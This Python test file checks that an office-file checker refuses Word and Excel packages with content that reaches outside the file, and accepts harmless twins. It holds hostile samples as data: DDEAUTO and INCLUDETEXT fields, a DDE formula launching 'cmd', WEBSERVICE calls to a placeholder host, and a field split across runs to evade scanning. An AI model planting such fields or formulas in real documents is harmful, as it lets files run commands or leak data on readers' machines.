"""Word and Excel files that would fetch or start something, each beside a harmless file of the same kind."""

from random import Random

import pytest
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from nenep.files.checking import check
from nenep.files.models import FileType
from nenep.files.tests.make import (
    STRICT,
    TRANSITIONAL,
    make_book,
    make_sheet,
    make_word,
    make_zip,
    repacked,
    with_content_type,
    with_field,
    with_link,
    with_main_part,
    with_text,
)
from nenep.shared.states import Refused

WORD, SHEET = make_word(), make_sheet()
CONNECTION = (
    '<connections><connection id="1" type="4"><webPr url="https://a.example/"/></connection></connections>'
)
WORKBOOK_LINKS = "xl/_rels/workbook.xml.rels"


def cell(formula):
    return make_book(lambda workbook: workbook.active.append([1, 2, f"={formula}"]))


def named(formula):
    return make_book(lambda workbook: workbook.defined_names.add(DefinedName("nguon", attr_text=formula)))


def validated(formula):
    rule = DataValidation(type="custom", formula1=formula)
    rule.add("A1")
    return make_book(lambda workbook: workbook.active.add_data_validation(rule))


def field_in(part, code):
    """A field in another text part of a Word file: the field check looks into all of them."""
    content = f'<w:hdr xmlns:w="{TRANSITIONAL}"><w:p><w:fldSimple w:instr="{code}"/></w:p></w:hdr>'
    return repacked(WORD, add={part: content})


def declared(code):
    """A text part that only its declared type gives away."""
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
    override = f'<Override PartName="/word/top.bin" ContentType="{kind}"/></Types>'
    return with_content_type(field_in("word/top.bin", code), b"</Types>", override.encode())


# How a file is made from a harmless or a harmful text.
BUILDERS = {
    "a field, main part beside its usual place": lambda code: with_main_part(
        with_field(WORD, code), "word/document.xml", "word/document2.xml"
    ),
    "a field, main part elsewhere": lambda code: with_main_part(
        with_field(WORD, code), "word/document.xml", "other/doc.xml"
    ),
    "a field in a strict file": lambda code: with_text(with_field(WORD, code), TRANSITIONAL, STRICT),
    "a field in a part of any name": lambda code: field_in("other/top.xml", code),
    "a field in a part that its type gives away": declared,
    "a formula in a cell": cell,
    "a formula behind a name": named,
    "a formula that checks what is typed": validated,
    "a link of the sheet": lambda kind: with_link(SHEET, kind, "x.xml", mode="", part=WORKBOOK_LINKS),
}
HARMLESS = {
    "a field": ("PAGE", "DATE \\@ dd/MM/yyyy"),
    "a formula": ('SUM(A1:B1)&"a|b"', "CONCATENATE(A1,B1)", "$A$1:$B$1", 'IF(A1>1,"WEBSERVICE(x)","")'),
    "a link": ("customXml",),
}
HARMFUL = {
    "a field": ("DDEAUTO cmd x", "INCLUDETEXT x"),
    "a formula": (
        "cmd|'/c calc'!A0",
        'WEBSERVICE("https://a.example/"&A1)',
        'SUM(1,_xlfn.WEBSERVICE ("x"))',
        '_xlfn.IMAGE("https://a.example/x.png")',
        'RTD("x",,"y")',
        'IF("|"="",1,dde("soffice","x","y"))',
    ),
    "a link": ("connections", "queryTable", "externalLink"),
}


def cases(texts):
    """Each kind of text in each builder of its kind."""
    return [
        pytest.param(builder, text, id=f"{builder}: {text}")
        for kind, found in texts.items()
        for builder in BUILDERS
        if builder.startswith(kind)
        for text in found
    ]


@pytest.mark.parametrize(("builder", "text"), cases(HARMFUL))
def test_what_reaches_out_is_refused_wherever_it_stands(builder, text):
    with pytest.raises(Refused, match="nối tới"):
        check("x", BUILDERS[builder](text))


@pytest.mark.parametrize(("builder", "text"), cases(HARMLESS))
def test_the_same_file_without_it_is_taken(builder, text):
    """The twin: it is the text that is refused, not the place or the way the file is made."""
    assert check("x", BUILDERS[builder](text))


@pytest.mark.parametrize("part", ["xl/connections.xml", "xl/queryTables/queryTable1.xml"])
def test_a_sheet_with_a_source_elsewhere_is_refused(part):
    with pytest.raises(Refused, match="nối tới"):
        check("x", repacked(SHEET, add={part: CONNECTION}))


def test_a_field_cut_into_runs_is_seen_behind_another_field():
    pieces = with_field(WORD, "PAGE")
    code = '<w:fldChar w:fldCharType="begin"/><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO x</w:instrText>'
    with pytest.raises(Refused, match="nối tới"):
        check(
            "x",
            with_text(pieces, "<w:instrText>PAGE</w:instrText>", f"<w:instrText>PAGE</w:instrText>{code}"),
        )


@pytest.mark.parametrize(
    ("package", "named"),
    [
        (with_main_part(WORD, "word/document.xml", "word/document2.xml"), FileType.DOCX),
        (with_main_part(SHEET, "xl/workbook.xml", "xl/book.xml"), FileType.XLSX),
    ],
)
def test_an_honest_file_may_have_its_main_part_anywhere(package, named):
    assert check("x", package).content_type == named


@pytest.mark.parametrize(
    "package",
    [
        with_text(WORD, 'Target="word/document.xml"', 'Target="word/styles.xml"'),
        with_text(WORD, 'Target="word/document.xml"', 'Target="word/nothing.xml"'),
        with_link(WORD, "officeDocument", "word/styles.xml", mode="", part="_rels/.rels"),
        make_zip([("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<x/>")]),
    ],
)
def test_a_file_whose_main_part_is_not_the_declared_one_is_refused(package):
    """A reader would show another text than the one that was checked."""
    with pytest.raises(Refused, match="thông thường"):
        check("x", package)


def test_a_file_with_too_much_text_is_refused():
    parts = {f"word/{n}.xml": f"<x>{Random(n).randbytes(6_000_000).hex()}</x>" for n in range(3)}
    with pytest.raises(Refused, match="quá dài"):
        check("x", repacked(WORD, add=parts))
